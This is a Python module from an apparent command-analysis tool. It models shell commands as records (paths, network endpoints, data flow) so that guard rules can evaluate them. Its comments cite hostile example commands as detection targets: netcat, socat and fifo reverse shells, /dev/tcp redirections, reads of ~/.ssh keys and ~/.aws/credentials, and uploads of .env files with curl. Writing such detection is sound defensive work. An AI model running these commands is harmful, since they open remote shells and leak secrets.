"""The command model: each simple command as a record a rule can read.

See docs/design/commands.md#the-model.

For every simple command the shell would run (`shell.Run`): its program (after wrappers, by
basename), the command names a rule may use (`git`, `git clean`), its options in one canonical
spelling with their values, its operands, and the paths it touches with where each lands. The
records become rows (`rows`) that the evaluator joins against the rules' command conditions.
"""

from __future__ import annotations

import json
import os
import posixpath
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace

from agentstyle.commands import network
from agentstyle.commands.argv import Parsed, read_words
from agentstyle.commands.flow import Hop, follow
from agentstyle.commands.grammar import PATH_ROLES, Grammar
from agentstyle.commands.listing import files_under
from agentstyle.commands.network import Endpoint
from agentstyle.commands.paths import (
    HOME_HELD,
    Place,
    Where,
    homes_within,
    host_place,
    machine,
    place,
)

TYPE_CHECKING = False  # mypy reads this name as typing's (the shell is imported where it runs)
if TYPE_CHECKING:
    from agentstyle.shell import Run

Grammars = Callable[[str], Grammar | None]

# Paths a command may name before the model stops taking more (a generous bound: a command line
# with more is already past the analysis's other limits).
MAX_PATHS = 512
RUNTIME_WORD = "(words xargs reads at run time)"
RUNTIME_FOLDER = "$XARGS_ITEM"  # a folder xargs names at run time (a variable never known)


@dataclass(frozen=True, slots=True)
class PathUse:
    """A path a command names: the word, what the program does with it, where it lands."""

    word: str
    role: str  # grammar.PATH_ROLES: reads, writes, deletes, runs, cwd, path
    place: Place


@dataclass(slots=True)
class Command:
    """One simple command as rules see it."""

    program: str
    words: list[str]  # the program and its subcommand words, canonical: ["docker", "volume", "rm"]
    heads: list[str]  # the names a `command "…"` condition matches: "docker", "docker volume", …
    options: list[tuple[str, str | None]]
    operands: list[str]
    paths: list[PathUse] = field(default_factory=list)
    remote: bool = False
    text: str = ""
    does_nothing: list[str] = field(default_factory=list)  # options that make it do nothing
    grammar: str | None = None  # the family file that read it; None: the generic split
    env: tuple[str, ...] = ()  # the NAME=value words it runs with
    # Effects (docs/design/commands.md#effects): the network ends it makes or takes, and what it
    # runs: `script` (a file), `string` (code given as a word), `stdin` (its program from its
    # stdin), `background`, `repeatedly` (in an endless loop, or a function calling itself)
    network: list[Endpoint] = field(default_factory=list)
    runs: set[str] = field(default_factory=set)
    # `stdin`, `stdout`: its standard input comes from a connection (a socket redirected into
    # it, a pipe from a command that reaches the network, the socket a network tool runs it on),
    # its standard output goes to one
    sockets: set[str] = field(default_factory=set)
    # Flow (docs/design/commands.md#flow): the commands whose output reaches it, and how
    inputs: dict[int, set[str]] = field(default_factory=dict)


# The variables git reads in place of a setting (git(1), ENVIRONMENT VARIABLES)
GIT_SETTING_VARIABLES = {
    "GIT_PAGER": "core.pager",
    "GIT_EDITOR": "core.editor",
    "GIT_SEQUENCE_EDITOR": "sequence.editor",
    "GIT_EXTERNAL_DIFF": "diff.external",
    "GIT_ASKPASS": "core.askPass",
    "GIT_PROXY_COMMAND": "core.gitProxy",
    "GIT_SSH_COMMAND": "core.sshCommand",
    "GIT_SSH": "core.sshCommand",
}


def git_env_options(env: Sequence[str]) -> list[str]:
    """The settings git takes from the variables it runs with, as the `-c KEY=VALUE` options
    they are to it: GIT_CONFIG_COUNT with GIT_CONFIG_KEY_n/GIT_CONFIG_VALUE_n,
    GIT_CONFIG_PARAMETERS, and the variables that stand for a setting (GIT_PAGER is
    core.pager, GIT_SSH_COMMAND core.sshCommand, …)."""
    from agentstyle.shell.builtins import git_env_config

    out: list[str] = []
    for text in env:
        name, _eq, value = text.partition("=")
        key = GIT_SETTING_VARIABLES.get(name)
        if key is not None and value:
            out += ["-c", f"{key}={value}"]
    for key, value in git_env_config(env).items():
        out += ["-c", f"{key}={value}"]
    return out


def program_of(word: str) -> str:
    """`/usr/bin/git` → `git`, `./deploy.sh` → `deploy.sh`, `git.exe` → `git`; a package
    runner's `NAME@VERSION` (`npx npm@10 publish`, `corepack pnpm@9 …`) runs `NAME`."""
    from agentstyle.shell.wrappers import command_name

    name = command_name(word)
    bare, at, _version = name.partition("@")
    return bare if at and bare and "/" not in _version else name


def build(runs: Sequence[object], root: str | None, grammars: Grammars) -> list[Command]:
    """The records of `runs` (shell.Run, in the order the shell meets them)."""
    from agentstyle.shell import Run

    where = machine(root)
    out: list[Command] = []
    budget = MAX_PATHS
    hops: list[list[Hop]] = []
    inner: list[tuple[int, list[Command]]] = []
    socketed: list[Command] = []
    opened: list[Command] = []
    # every file written so far, as (command, place): at most MAX_PATHS, so that matching a
    # command's reads against them stays small whatever the number of commands
    writes: list[tuple[int, str]] = []
    for run in runs:
        assert isinstance(run, Run)
        if run.redirs:
            # the shell opens a redirection's file whatever the program then does (nothing at
            # all for `> .env` alone): those files are also a command of no name
            opened.append(_opened(run, where))
        if not run.argv:
            hops.append([])
            out.append(opened.pop())
            continue
        program = program_of(run.argv[0]) if run.argv else ""
        grammar = grammars(program) if program else None
        args = list(run.argv[1:])
        if program == "git" and run.env:
            args = [*git_env_options(run.env), *args]
        if run.found and not run.runtime_args:  # `find … -exec cat {} ;`: the files find finds
            # (GNU find also fills in `{}` inside a word: `curl -F f=@{}`)
            args = [
                f
                for word in args
                for f in ((word.replace("{}", x) for x in run.found) if "{}" in word else (word,))
            ]
        parsed = read_words(program, args, grammar)
        command = _command(program, parsed, run)
        if budget > 0:
            command.paths = _paths(parsed, run, where)[:budget]
            budget -= len(command.paths)
        _effects(command, parsed, run, grammar)
        if program == "ln":
            _links(parsed, run, where)
        hops.append(_hops(command, run, out, writes))
        writes += [
            (len(out), u.place.text.rstrip("/")) for u in command.paths if u.role == "writes"
        ]
        for source in run.stdin_from:  # a pipe between a command and the network
            if source < len(out) and out[source].network:
                command.sockets.add("stdin")
            if source < len(out) and command.network:
                out[source].sockets.add("stdout")
        out.append(command)
        inner.append((len(out) - 1, _runs_commands(parsed, run, where, grammars)))
        socketed += _socket_commands(command, parsed, run, root, grammars)
    _fifo_hops(out, runs, hops)
    flows = follow(hops)
    for n, command in enumerate(out):
        command.inputs = flows.sources(n)
    # the commands runners run (`yarn prisma …`) come after the shell's own, so that positions
    # stay those of ShellParse.runs; what reaches the runner reaches them
    for n, commands in inner:
        for command in commands:
            command.inputs = out[n].inputs
            if budget > 0:
                budget -= len(command.paths)
            else:
                command.paths = []
            out.append(command)
    return out + socketed + opened


def _fifo_hops(commands: list[Command], runs: Sequence[object], hops: list[list[Hop]]) -> None:
    """A named pipe (`mkfifo f`, `mknod f p`) carries what one command writes into it to the
    one that reads it, whichever comes first in the line: the two run at the same time
    (`cat f | sh -i | nc h p > f`)."""
    fifos = {
        use.place.text
        for c in commands
        if c.program == "mkfifo" or (c.program == "mknod" and "p" in c.operands[1:2])
        for use in c.paths[: None if c.program == "mkfifo" else 1]
    }
    if not fifos:
        return
    for reader, (c, run) in enumerate(zip(commands, runs, strict=False)):
        stdin = _stdin_files(run)
        for use in c.paths:
            if use.place.text not in fifos or use.role not in ("reads", "runs"):
                continue
            code = use.role == "runs" or ("stdin" in c.runs and use.word in stdin)
            for writer, w in enumerate(commands):
                wrote = any(u.place.text == use.place.text and u.role == "writes" for u in w.paths)
                if writer != reader and wrote:
                    hops[reader].append(Hop(writer, "file", code))


def _stdin_files(run: object) -> set[str]:
    """The files a command's stdin is redirected from (`sh < x.sh`, `sh 0</tmp/p`)."""
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    return {target for op, target in run.redirs if _redirected(op) == {"stdin"}}


def _socket_commands(
    command: Command, parsed: Parsed, run: object, root: str | None, grammars: Grammars
) -> list[Command]:
    """What a network tool runs on its connection (`nc -e /bin/sh`, `ncat --sh-exec 'sh -i'`,
    `socat TCP:h:p EXEC:'bash -li'`): commands of their own whose stdin and stdout are the
    connection, after the shell's own (so that positions stay those of ShellParse.runs)."""
    from agentstyle.shell import Run, parse_shell

    assert isinstance(run, Run)
    if run.remote:
        return []
    valued = [*parsed.operands, *((v, r) for _n, v, r in parsed.option_values)]
    # socat runs its EXEC/SYSTEM program whatever the other address is (a file, a descriptor)
    texts = [p for w, r in valued if r == "address" and (p := network.from_socat(w).program)]
    if command.network:
        texts += [w for w, r in valued if r in ("runs", "code")]
    out: list[Command] = []
    for text in texts[:MAX_INNER]:
        folder = run.dirs[0] if run.dirs and run.dirs[0].startswith("/") else root or "/"
        for inner in build(parse_shell(text, folder).runs, root, grammars):
            if command.network:
                inner.sockets |= {"stdin", "stdout"}
            out.append(inner)
    return out


def _opened(run: object, where: Where) -> Command:
    """The files the shell opens for a run's redirections, as a command of no name (`heads`
    empty): only a condition that names no command (`command where ( … )`) sees it, so a rule
    that lets a program through by name (`unless: command "wc"`) still sees `wc < .env` open
    the file."""
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    parsed = Parsed(words=[], heads=[])
    bare = Run((), run.dirs, remote=run.remote, redirs=run.redirs, text=run.text)
    command = Command(
        program="",
        words=[],
        heads=[],
        options=[],
        operands=[],
        paths=_paths(parsed, bare, where),
        remote=run.remote,
        text=run.text,
        env=run.env,
    )
    _effects(command, parsed, bare, None)  # a socket it opens: `> /dev/tcp/host/port`
    return command


def _effects(command: Command, parsed: Parsed, run: object, grammar: Grammar | None) -> None:
    """The network ends a command makes or takes, and what it runs."""
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    listening = "listen" in parsed.flags
    valued = [(v, r) for _n, v, r in parsed.option_values]
    hosts: list[str] = []
    ports: list[str] = []
    for word, role in [*parsed.operands, *valued]:
        if role == "url":
            end = network.from_url(word)[0]
            if end is not None:
                command.network.append(end)
        elif role == "host" and listening and word.isdigit():
            ports.append(word)  # `nc -l 4444`: the port it listens on
        elif role == "host":
            hosts.append(network.from_host(word).host)
        elif role == "port":
            ports.append(word)
        elif role == "address":
            address = network.from_socat(word)
            if address.end is not None:
                command.network.append(address.end)
            if address.fd is not None:  # `FD:3` after `exec 3>/dev/tcp/h/p`
                end = network.from_redirection(dict(run.fds).get(address.fd, ""))
                if end is not None:
                    command.network.append(end)
            if address.program is not None:
                command.runs.add("string")
        elif role == "runs":
            command.runs.add("stdin" if word in ("-", "/dev/stdin") else "script")
        elif role == "code":
            command.runs.add("string")
        elif command.program in _COPIERS and network.remote_path(word):
            command.network.append(network.from_host(word))
    # `nc host 4444`, `ssh -p 2222 host`: a host and its port are one end
    kind = "listen" if listening else "connect"
    for host in hosts or ([""] if ports else []):
        for port in ports or [""]:
            command.network.append(network.Endpoint(kind if not host else "connect", host, port))
    if listening and not any(e.kind == "listen" for e in command.network):
        command.network.append(network.Endpoint("listen", "", ""))
    for op, target in run.redirs:
        end = network.from_redirection(target)
        if end is not None:
            command.network.append(end)
            command.sockets |= _redirected(op)
    for use in command.paths:  # `tar -cf /dev/tcp/h/p`, `tar -cf /dev/fd/3` after `exec 3>…`
        end = network.from_redirection(use.word)
        if end is not None and use.role in ("writes", "reads", "path"):
            command.network.append(end)
    command.network = list(dict.fromkeys(command.network))  # a socket named twice is one end
    if grammar is not None and parsed.program_from_stdin:
        command.runs.add("stdin")
    if run.background:
        command.runs.add("background")
    if run.repeating:
        command.runs.add("repeatedly")


# Options with which a download is not saved under its URL's name.
_NAMED_ELSEWHERE = frozenset(
    {"--remote-header-name", "--no-clobber", "--content-disposition", "--trust-server-names"}
)


def _redirected(op: str) -> set[str]:
    """Which of stdin and stdout a redirection's operator gives the file: `<`, `0<`, `<>`
    stdin; `>`, `>>`, `1>`, `>&`, `&>` stdout; `2>` and other descriptors neither."""
    fd = op.rstrip("<>&|")
    if op.startswith("&") or (not fd and op.startswith(">")) or fd == "1":
        return {"stdout"}
    if not fd and op == "<>":
        return {"stdin"}
    return {"stdin"} if fd in ("", "0") and op.lstrip("0").startswith("<") else set()


# Programs whose `host:path` operands are on another machine (a copy over the network).
_COPIERS = frozenset({"scp", "rsync", "sftp", "rcp"})


def _hops(
    command: Command, run: object, before: list[Command], writes: list[tuple[int, str]]
) -> list[Hop]:
    """What reaches this command directly from the commands before it (`writes`: the files
    they write, by command)."""
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    runs_code = bool(command.runs & {"script", "string", "stdin"})
    out = [Hop(n, "stdin", "stdin" in command.runs) for n in run.stdin_from if n < len(before)]
    out += [Hop(n, "words", runs_code) for n in run.args_from if n < len(before)]
    out += [Hop(n, "words", False) for n in run.data_from if n < len(before)]
    stdin = _stdin_files(run) if "stdin" in command.runs else set()
    mine = [
        (use.place.text, use.role == "runs" or use.word in stdin)
        for use in command.paths
        if use.role != "writes"
    ]
    for text, runs_it in mine:
        # a file written there, or into that folder (`rsync h:p.sh . && bash p.sh`), or into a
        # folder it reads (`cp -R src out/x; tar cf - out`); run when it is the script, or the
        # stdin of a shell (`curl -o x … && sh < x`)
        for n, written in writes:
            holds = text.startswith(written + "/") or written.startswith(text + "/")
            if text == written or holds:
                out.append(Hop(n, "file", runs_it))
    return out


# How deep commands that run commands are followed (`corepack yarn run prisma …` is two).
MAX_INNER = 4


def _runs_commands(parsed: Parsed, run: object, where: Where, grammars: Grammars) -> list[Command]:
    """The commands a command runs with its `command` operands (`yarn prisma migrate reset`
    runs `prisma migrate reset`): each read by its own program's grammar, in the same folder,
    machine and environment. The shell analysis unwraps the wrappers it knows (`npx`, `sudo`);
    a grammar says this of runners it does not (package managers running a package's bin)."""
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    out: list[Command] = []
    dirs = _dirs(parsed, run)
    for _depth in range(MAX_INNER):
        words = [w for w, role in parsed.operands if role == "command"]
        if not words:
            break
        program = program_of(words[0])
        grammar = grammars(program)
        parsed = read_words(program, words[1:], grammar)
        text = " ".join(words)
        inner = Run(
            tuple(words),
            tuple(dirs),
            remote=run.remote,
            env=run.env,
            runtime_args=run.runtime_args,
            text=text,
        )
        dirs = _dirs(parsed, inner)
        command = _command(program, parsed, inner)
        command.paths = _paths(parsed, inner, where)
        _effects(command, parsed, inner, grammar)
        out.append(command)
    return out


def _command(program: str, parsed: Parsed, run: Run) -> Command:
    """The command a run's words make as its program's grammar read them (`parsed`), before its
    paths and effects are added."""
    return Command(
        program=program,
        words=parsed.words,
        heads=parsed.heads,
        options=parsed.options,
        operands=[w for w, _role in parsed.operands],
        remote=run.remote,
        text=run.text,
        does_nothing=parsed.does_nothing,
        grammar=parsed.grammar,
        env=run.env,
    )


def _dirs(parsed: Parsed, run: object) -> list[str]:
    """The folders the command's relative paths start from: where it runs, moved by a `cwd`
    option (`git -C sub`, `make -C dir`)."""
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    dirs = list(run.dirs) or [""]
    for _name, value, role in parsed.option_values:
        if role == "cwd" and value:
            # `xargs -I{} git -C {} …`: a folder only known at run time
            value = RUNTIME_FOLDER if run.slot and value.startswith(run.slot) else value
            dirs = [_moved(d, value) for d in dirs]
    return dirs


def _moved(directory: str, value: str) -> str:
    if value.startswith(("/", "~", "$")):
        return value
    if not directory:
        return posixpath.normpath(value)
    return posixpath.normpath(posixpath.join(directory, value))


def _paths(parsed: Parsed, run: object, where: Where) -> list[PathUse]:
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    if run.dotglob:  # `shopt -s dotglob; rm -rf *`: its globs reach dot-files
        where = replace(where, dotglob=True)
    dirs = _dirs(parsed, run)
    words: list[tuple[str, str]] = [(w, r) for w, r in parsed.operands if r in PATH_ROLES]
    # an option marked `output` makes the file the others name one it writes (`tar -c -f x`);
    # one marked `extracts` writes into the folder it runs in (`tar -x`, moved by `-C`)
    written = "output" in parsed.flags
    if "extracts" in parsed.flags:
        words.append((".", "writes"))
    words += [
        (v, "writes" if written and r == "path" else r)
        for _n, v, r in parsed.option_values
        if r in PATH_ROLES and r != "cwd"
    ]
    for w, r in [*parsed.operands, *((v, r) for _n, v, r in parsed.option_values)]:
        if r == "address":  # socat's OPEN:file, CREATE:file
            address = network.from_socat(w)
            words += [(f, "reads") for f in (address.reads,) if f]
            words += [(f, "writes") for f in (address.writes,) if f]
    if run.fds:  # `/dev/fd/3` is the file fd 3 was opened on (`exec 3>/dev/tcp/…`)
        opened = dict(run.fds)
        words = [(_fd_file(w, opened), r) for w, r in words]
    words = [(w, r) for w, r in words if w != "-"]  # `-o -`: stdout, not a file
    if "inplace" in parsed.flags:  # `gawk -i inplace '…' f`: each file read is written too
        words += [(w, "writes") for w, r in parsed.operands if r == "reads" and w != "-"]
    if "removes" in parsed.flags:  # `find DIR -delete`: what it walks it may delete
        words += [(w, "deletes") for w, r in parsed.operands if r == "reads"]
    words += _landed(parsed, dirs, where)  # `cp -r x/.git .` writes ./.git
    valued = [*parsed.operands, *((v, r) for _n, v, r in parsed.option_values)]
    if run.runtime_args and run.found:  # `find … | xargs -I{} curl -F f=@{}`: find's files
        words += _slotted(words, run.found)
        valued += _slotted(valued, run.found)
    named = len(words)  # operands and option values; what they imply and redirections follow
    # `curl -d @file`, `--data-binary @file` read the file (`@-` is stdin)
    words += [(f, "reads") for w, r in valued if r == "data" for f in _data_files(w)]
    # `tar -T list`, `rsync --files-from=list`: the list, and each path it names
    words += [(f, "reads") for w, r in valued if r == "names" for f in (w, *_listed_in(w, dirs))]
    # a `file://` URL is a read of that file (`curl file://$HOME/.aws/credentials`)
    words += [
        (read, "reads")
        for w, r in valued
        if r == "url" and (read := network.from_url(w)[1]) is not None
    ]
    if run.argv and "/" in run.argv[0] and not run.argv[0].startswith("$"):
        words.append((run.argv[0], "runs"))  # `./x`: the file it runs
    # `curl -O https://x/p.sh`, `wget https://x/p.sh`: writes p.sh (not when the server names
    # the file, `-J`, or an existing one makes it p.sh.1, `--no-clobber`)
    named_elsewhere = {n for n, _v in parsed.options} & _NAMED_ELSEWHERE
    if parsed.saves_urls and not named_elsewhere:
        words += [(name, "writes") for w, r in valued if r == "url" and (name := _saved(w))]
    for op, target in run.redirs:
        if target == "/dev/null" or not target:
            continue
        words.append((target, "reads" if op.lstrip("0123456789").startswith("<") else "writes"))
    out: list[PathUse] = []
    seen: set[tuple[str, str, str]] = set()
    for k, (word, role) in enumerate(words):
        if run.slot and word.startswith(run.slot):  # `xargs -I{} cp x --target-directory={}`
            out.append(PathUse(word, role, Place(word, (word,), frozenset({"is:unknown"}))))
            continue
        there = host_place(word) if parsed.hostpaths and k < named and not run.remote else None
        if there is not None:  # `rsync … deploy@web1:/srv/`: a path on that machine
            out.append(PathUse(word, role, there))
            continue
        itself = parsed.unfollowed and role == "deletes"  # `rm -rf link`: the link
        for d in dirs:
            for found in place(word, d, where, remote=run.remote, link_itself=itself):
                key = (word, role, found.text)
                if key not in seen:
                    seen.add(key)
                    out.append(PathUse(word, role, found))
    if parsed.recursive and not run.remote:
        searched = [u for u in out if u.role in ("reads", "path")]
        if not searched:  # `rg KEY`, `grep -r KEY`: the folder it runs in, which it reads
            searched = [PathUse(".", "reads", p) for d in dirs for p in place(".", d, where)]
            out += searched
        out += _listed(searched, parsed, where)
    role = parsed.appended  # `xargs file`: what it appends is read; `xargs rm`: deleted
    if run.runtime_args and role in PATH_ROLES:
        unknown = Place(RUNTIME_WORD, (RUNTIME_WORD,), frozenset({"is:unknown"}))
        out.append(PathUse(RUNTIME_WORD, role, unknown))
        # `find ~/.ssh -name 'id_*' | xargs cat`: the words it appends are the files find finds
        for word in run.found[:MAX_INNER]:
            for found in {p.text: p for d in dirs for p in place(word, d, where)}.values():
                out.append(PathUse(word, role, found))
    return out


def _slotted(words: list[tuple[str, str]], found: tuple[str, ...]) -> list[tuple[str, str]]:
    """The words with xargs's `{}` in them, once for each file a `find` before it finds."""
    return [(w.replace("{}", f), r) for w, r in words if "{}" in w for f in found[:MAX_INNER]]


def _landed(parsed: Parsed, dirs: list[str], where: Where) -> list[tuple[str, str]]:
    """Where a copy's or move's sources land when its destination is a folder (grammar key
    `into`): `DEST/NAME` for each source, a file it writes (`cp -r x/.git .` writes `./.git`,
    `mv a b dir/` writes `dir/a` and `dir/b`). The destination is a folder when the grammar
    says it always is (rsync: for a source without a trailing slash), a `target` option names
    it, there are several sources, it ends with `/`, it is `.`, `..` or `~`, or it is a folder
    on disk."""
    if parsed.into is None:
        return []
    sources = [w for w, r in parsed.operands if r in ("reads", "deletes")]
    dests = [v for _n, v, r in parsed.option_values if r == "writes"] if parsed.targeted else []
    dests = dests or [w for w, r in parsed.operands if r == "writes"][-1:]
    if not sources or not dests or (parsed.hostpaths and host_place(dests[0]) is not None):
        return []
    dest = dests[0]
    folder = (
        parsed.into == "always"
        or parsed.targeted
        or len(sources) > 1
        or dest.endswith("/")
        or posixpath.basename(dest) in (".", "..", "~", "")
        or any(os.path.isdir(p.text) for d in dirs for p in place(dest, d, where))
    )
    out: list[tuple[str, str]] = []
    for source in sources[:MAX_INNER]:
        if parsed.into == "always" and source.endswith("/"):
            continue  # rsync's `x/`: what x holds, into the destination itself
        name = posixpath.basename(source.rstrip("/"))
        if folder and name not in ("", ".", "..") and not source.startswith("$("):
            out.append((posixpath.join(dest, name), "writes"))
    return out


def _fd_file(word: str, opened: dict[str, str]) -> str:
    """`/dev/fd/N` (`/proc/self/fd/N`) as the file descriptor N was opened on, when known."""
    from agentstyle.shell.runs import FD_PATHS

    for prefix in FD_PATHS:
        if word.startswith(prefix) and word[len(prefix) :] in opened:
            return opened[word[len(prefix) :]]
    return word


def _listed(uses: list[PathUse], parsed: Parsed, where: Where) -> list[PathUse]:
    """The files a recursive read reads under the folders it reads (`grep -r KEY .`)."""
    from agentstyle.shell.walkstate import SEARCHES

    # a search prints only the lines its pattern matches: a home it walks is judged by the
    # pattern (guard-secrets' secret-search), not by the keys a home is presumed to hold
    presumed = parsed.hidden and parsed.words[0] not in SEARCHES
    out: list[PathUse] = []
    for use in uses:
        if use.role not in ("reads", "path") or not use.place.text.startswith("/"):
            continue
        for path in files_under(
            use.place.text,
            "/",
            hidden=parsed.hidden,
            includes=parsed.includes,
            excludes=parsed.excludes,
        ):
            for found in place(path, "", where):
                out.append(PathUse(path, "reads", found))
        if presumed:
            for home in homes_within(use.place.text, where):
                for name in HOME_HELD:
                    path = posixpath.join(home, name)
                    out += [PathUse(path, "reads", found) for found in place(path, "", where)]
    return out


def _saved(url: str) -> str | None:
    """The file a download saves a URL to: its path's last part."""
    path = url.split("://", 1)[-1].split("?", 1)[0].split("#", 1)[0]
    name = path.rsplit("/", 1)[-1] if "/" in path else ""
    return name or None


def _data_files(value: str) -> list[str]:
    """The files a `data` value reads: `@file`, `name@file` (curl --data-urlencode), or a form
    field's `name=@file` / `name=<file` (`curl -F f=@.env`, several: `f=@a,b`); `@-` is stdin."""
    if value.startswith("@"):
        return [value[1:]] if value != "@-" else []
    field, at, path = value.partition("@")
    if at and field.replace("_", "").replace("-", "").isalnum() and path not in ("", "-"):
        return [path]
    name, eq, rest = value.partition("=")
    if eq and name and rest[:1] in ("@", "<") and rest[1:] not in ("", "-"):
        files = rest[1:].split(";")[0]
        return [f for f in files.split(",") if f] if rest[0] == "@" else [files]
    return []


MAX_LISTED = 200  # paths read from a list file (`tar -T list`): the hook has seconds


def _listed_in(word: str, dirs: list[str]) -> list[str]:
    """The paths a list file names, one a line (relative to where the command runs), when the
    file is there to read; [] when it is not (made earlier in the line, or on another machine)."""
    import os

    for d in dirs:
        path = word if word.startswith("/") or not d.startswith("/") else os.path.join(d, word)
        try:
            with open(path, encoding="utf-8", errors="replace") as f:
                lines = [line.strip() for _n, line in zip(range(MAX_LISTED), f, strict=False)]
        except OSError:
            continue
        return [line for line in lines if line and not line.startswith("#")]
    return []


def _links(parsed: Parsed, run: object, where: Where) -> None:
    """`ln -s TARGET LINK`: later commands of the line that go through LINK reach TARGET."""
    from agentstyle.shell import Run

    assert isinstance(run, Run)
    names = {name for name, _v in parsed.options}
    if not names & {"--symbolic", "-s"} or run.remote:
        return
    operands = [w for w, _r in parsed.operands]
    if len(operands) < 2:
        return
    target, link = operands[0], operands[-1]
    for d in run.dirs or [""]:
        at = place(link, d, where)[0]
        if not at.text.startswith("/"):
            continue
        to = place(target, posixpath.dirname(at.text), where)[0]
        if to.text.startswith("/"):
            where.links[at.text] = to.text


def describe(command: Command) -> str:
    """One line of `style explain` (docs/commands.md#style-explain): the command as rules read
    it: its names, options with their canonical names and values, operands, and each path with
    what the program does to it and where it lands."""
    if not command.heads:
        parts = ["redirections"]  # the files the shell opens, whatever runs (`_opened`)
    else:
        parts = [f"command {json.dumps(command.heads[-1], ensure_ascii=False)}"]
        if command.grammar is None:
            parts.append("grammar=none")
    if command.options:
        shown = [n if v is None else f"{n}={v}" for n, v in command.options]
        parts.append("options=" + json.dumps(shown, ensure_ascii=False))
    if command.operands:
        parts.append("operands=" + json.dumps(command.operands, ensure_ascii=False))
    for use in command.paths:
        places = sorted(t for t in use.place.tags if not t.startswith("outside:"))
        where = ",".join(places) or "outside every place"
        parts.append(f"path={json.dumps(use.place.text, ensure_ascii=False)}({use.role}; {where})")
    if command.does_nothing:
        parts.append("does-nothing=" + ",".join(command.does_nothing))
    runs = sorted(command.runs) + (["remote"] if command.remote else [])
    if runs:
        parts.append("runs=" + ",".join(runs))
    if command.sockets:
        parts.append("network-" + ",".join(sorted(command.sockets)))
    for end in command.network:
        where = ":".join(x for x in (end.host, end.port) if x) or "?"
        parts.append(f"network={end.kind}:{where}")
    for source, kinds in sorted(command.inputs.items()):
        parts.append(f"{'code' if 'code' in kinds else 'input'}-from=#{source + 1}")
    return " ".join(parts)
